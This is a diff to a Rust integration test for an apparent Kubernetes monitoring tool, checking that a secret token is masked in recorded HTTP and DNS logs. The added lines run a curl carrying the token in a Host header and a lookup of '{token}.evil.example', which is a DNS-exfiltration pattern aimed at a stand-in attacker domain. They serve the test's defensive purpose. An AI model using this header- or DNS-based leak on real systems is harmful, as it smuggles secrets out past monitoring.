@@ -410,6 +410,12 @@ fn scanner_finds_no_secret_that_programs_use_in_the_log() {
             succeeded(&script, &output);
         }
     }
+    // Reasons, names of hosts and lookups.
+    for script in
+        [format!("curl -s -H 'Host: {token}' {url}/host"), format!("getent hosts {token}.evil.example")]
+    {
+        up.kubectl_args(&["exec", "box", "--", "sh", "-c", &script]);
+    }
     up.kubectl_args(&[
         "exec",
         "box",
@@ -424,6 +430,7 @@ fn scanner_finds_no_secret_that_programs_use_in_the_log() {
 
     eventually(&up, &["list", "--kind", "http"], "default/box&web.example&/json");
     eventually(&up, &["list", "--kind", "http"], "default/box&/talk");
+    eventually(&up, &["list", "--kind", "dns"], "default/box&***.evil.example");
     eventually(&up, &["list", "--kind", "exec"], "default/box&sh -c&curl -s&exited with 0");
     eventually(&up, &["list", "--kind", "api"], "allowed&create&top");
     let log = read(&up, &["export"]);
